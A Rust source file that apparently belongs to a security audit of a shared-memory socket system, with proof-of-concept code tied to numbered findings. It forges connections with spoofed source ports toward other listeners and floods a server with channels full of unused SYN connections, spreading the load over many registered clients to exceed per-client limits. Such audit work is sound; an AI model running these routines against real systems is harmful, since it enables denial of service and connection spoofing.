//! Connections that are written into a channel by hand.

use crate::client::{Channel, Client};
use sd_proto::{Ip, Reply, Request, Route};
use sd_shm::channel::{SLOTS, Side, SlotState};
use std::io;
use std::os::fd::{AsRawFd, OwnedFd};
use std::sync::atomic::Ordering;

/// A way to a listener, and what wakes its process.
pub(crate) struct Way {
    pub(crate) channel: Channel,
    pub(crate) listener: u32,
    pub(crate) generation: u32,
    wakes: OwnedFd,
}

impl Way {
    /// One more channel to the process that listens on a port; `None`: the monitor gives none.
    pub(crate) fn ask(client: &Client, port: u16, want_channel: bool) -> io::Result<Option<Way>> {
        let (ip, nth, want_ports) = (Ip::v4([127, 0, 0, 1]), 0, true);
        client.control.tell(Request::Connect { ip, port, nth, want_ports, want_channel }, &[])?;
        loop {
            let (reply, mut fds) = client.control.receive()?;
            let route = match reply {
                Reply::Route { route, .. } => route,
                Reply::Error { .. } => return Ok(None),
                _ => continue,
            };
            let Route::Shm { channel, fresh: true, listener, generation, .. } = route else {
                return Ok(None);
            };
            let Some(wakes) = fds.pop() else { return Ok(None) };
            return Ok(Some(Way { channel: Channel::new(channel, fds)?, listener, generation, wakes }));
        }
    }

    /// Asks for a connection on a slot, from a port and an address of one's choice.
    pub(crate) fn syn(&self, slot: usize, from: u16, to: u16, listener: (u32, u32)) {
        let map = &self.channel.map;
        let words = &map.slot(slot).side[Side::A as usize];
        let names = map.names(slot);
        words.listener.store(listener.0, Ordering::Relaxed);
        names.listener_gen.store(listener.1, Ordering::Relaxed);
        names.ports.store(u32::from(from) << 16 | u32::from(to), Ordering::Relaxed);
        for (place, word) in names.local.iter().zip(Ip::v4([127, 0, 0, 1]).halves()) {
            place.store(word, Ordering::Relaxed);
        }
        for (place, word) in names.remote.iter().zip(Ip::v4([127, 0, 0, 1]).halves()) {
            place.store(word, Ordering::Relaxed);
        }
        map.header().used.fetch_max(slot as u32 + 1, Ordering::Relaxed);
        words.set_state(1, SlotState::Syn);
        map.events(Side::B).post(slot);
    }

    pub(crate) fn wake(&self) {
        sd_sys::fd::eventfd_signal(self.wakes.as_raw_fd());
    }
}

/// Finding 7 c: a connection that says it comes from a port. Finding 7 d: one to another listener of the process, on
/// port `to`. Generations are tried in turn.
pub(crate) fn run(port: u16, from: u16, to: u16) -> io::Result<()> {
    let client = Client::register()?;
    let Some(way) = Way::ask(&client, port, false)? else {
        println!("no way");
        return crate::stand();
    };
    if to == port {
        way.syn(0, from, to, (way.listener, way.generation));
    } else {
        for (slot, listener) in
            (0..8).flat_map(|index| (0..8).map(move |half| (index, half * 2 + 1))).enumerate()
        {
            way.syn(slot, from, to, listener);
        }
    }
    way.wake();
    crate::stand()
}

/// Finding 8: channels to one server, as many as are to be had; with `syns`, each of them full of connections that
/// nobody will use.
pub(crate) fn flood(port: u16, count: u64, syns: bool) -> io::Result<()> {
    let mut held = Vec::new();
    let mut clients = vec![Client::register()?];
    for number in 0..count {
        // Several processes' worth: what one client may have at most is not what a user may have.
        if number % 256 == 255 {
            clients.push(Client::register()?);
        }
        let Some(client) = clients.last() else { break };
        match Way::ask(client, port, true) {
            Ok(Some(way)) => held.push(way),
            // No more for this one; for another?
            Ok(None) if clients.len() < 120 => match Client::register() {
                Ok(client) => clients.push(client),
                Err(_) => break,
            },
            Ok(None) => break,
            Err(error) => {
                println!("stopped: {error}");
                break;
            }
        }
    }
    println!("{} channels", held.len());
    if syns {
        for way in &held {
            (0..SLOTS).for_each(|slot| way.syn(slot, 40_000, port, (way.listener, way.generation)));
        }
        held.iter().for_each(Way::wake);
    }
    crate::stand()
}
